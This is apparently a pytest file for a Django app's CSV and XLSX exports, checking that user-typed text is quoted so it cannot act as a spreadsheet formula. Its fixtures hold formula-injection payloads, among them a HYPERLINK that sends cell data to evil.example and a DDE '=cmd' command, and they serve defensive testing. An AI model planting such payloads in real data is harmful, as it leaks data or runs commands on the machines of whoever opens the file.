"""Story exports never turn text typed by users into spreadsheet formulas (CSV/formula injection, issue #8)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tuksuk.cases import services
from tuksuk.core.downloads import spreadsheet_text
from tuksuk.core.testing import make_user
from tuksuk.core.testing_world import build_place
from tuksuk.households.services import update_household
from tuksuk.indicators.models import Category

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


@pytest.fixture
def evil_place():
    place = build_place("5703", "570301")
    actor = make_user("ministry_admin")
    update_household(place.household, actor=actor, head_name=EVIL)
    services.record_story(
        place.household, actor=actor, category=Category.objects.get(pk=1), indicators=[], description="x", ref="@SUM(1)"
    )
    return place


@pytest.mark.parametrize("value", [EVIL, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"])
def test_formula_text_is_quoted(value):
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["นายแดง", "12/3", "", 5, None, "a=b"])
def test_other_values_are_unchanged(value):
    assert spreadsheet_text(value) == value


def test_csv_export_quotes_a_formula_head_name(client_for, evil_place):
    response = client_for(make_user("district_chief", "5703")).get(reverse("cases:list"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells
    assert "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_xlsx_export_has_no_formula_cells(client_for, evil_place):
    response = client_for(make_user("district_chief", "5703")).get(reverse("cases:list"), {"export": "xlsx"})
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]
